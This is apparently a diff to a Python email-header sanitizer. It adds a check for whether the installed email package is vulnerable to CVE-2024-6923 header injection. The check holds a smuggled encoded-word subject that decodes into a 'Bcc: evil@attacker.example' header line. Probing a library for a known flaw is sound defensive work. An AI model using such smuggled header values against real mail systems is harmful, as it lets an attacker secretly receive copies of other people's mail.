@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import email.policy
+from email.header import decode_header, make_header
+from email.message import EmailMessage
+
 HEADER_LIMIT = 200
 
 # Characters that end a line for some reader of the mail, though only CR and LF do so in RFC 5322: VT, FF, FS, GS, RS,
@@ -46,3 +50,14 @@ def clean_header(text: str, limit: int = HEADER_LIMIT) -> str:
         text = text.translate(_CLEAN)
     # Breaking up comes after taking out: `=`, a zero-width space and `?` would otherwise meet to form a new `=?`.
     return " ".join(text.split()).replace("=?", "= ?")[:limit].rstrip()
+
+
+SMUGGLED = "=?utf-8?q?down_=F0=9F=92=A9_=3D=3FUTF-8=3FQ=3F=3D0A=3F=3DBcc=3A_evil=40attacker=2Eexample?="
+
+
+def python_is_flawed() -> bool:
+    """Whether the `email` package of this Python writes a header line that a subject smuggled in (CVE-2024-6923,
+    libraries.md M1). Tried, not looked up: Debian's 3.11.2 is mended, the 3.11.7 of python.org is not."""
+    mail = EmailMessage(policy=email.policy.SMTP)
+    mail["Subject"] = str(make_header(decode_header(SMUGGLED))).replace("\n", "").replace("\r", "")
+    return b"\nBcc:" in bytes(mail)
